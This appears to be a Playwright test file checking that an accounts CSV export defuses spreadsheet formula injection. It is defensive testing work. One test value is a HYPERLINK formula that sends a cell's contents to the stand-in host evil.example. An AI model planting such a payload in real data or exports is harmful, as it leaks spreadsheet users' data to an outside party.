/** Exports are opened in spreadsheets: no cell of the accounts export can run as a formula. */
import Papa from 'papaparse';
import { expect, test } from '@playwright/test';
import { apiClient, apiKeys } from './support/api';
import { signInAs } from './pages/login-page';

test('an account named like a formula comes out as text in the export; numbers stay numbers', async ({ page, baseURL }) => {
  const name = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
  const ingest = await apiClient(baseURL!, apiKeys('demo').ingest);
  const res = await ingest.post('/api/v1/accounts', { data: [{ id: 'FORMULA-1', name, tier: 'core' }, { id: 'FORMULA-2', name: '@SUM(1+1)', tier: 'core' }] });
  expect(res.status(), await res.text()).toBe(200);
  await ingest.dispose();

  await signInAs(page, 'admin@example.com');
  const exported = await page.request.get('/api/app/accounts/export?owner=*');
  expect(exported.status()).toBe(200);
  const text = await exported.text();
  const { data } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(data.find((r) => r.id === 'FORMULA-1')?.name).toBe(`'${name}`);
  expect(data.find((r) => r.id === 'FORMULA-2')?.name).toBe("'@SUM(1+1)");
  // No cell of the file starts a formula any more.
  expect(data.flatMap((r) => Object.values(r)).filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([]);
  // Negative numbers are written as numbers, not as text.
  const velocities = data.map((r) => r.velocity).filter((v) => v !== '');
  expect(velocities.some((v) => v.startsWith('-'))).toBe(true);
  expect(velocities.every((v) => Number.isFinite(Number(v)))).toBe(true);
});
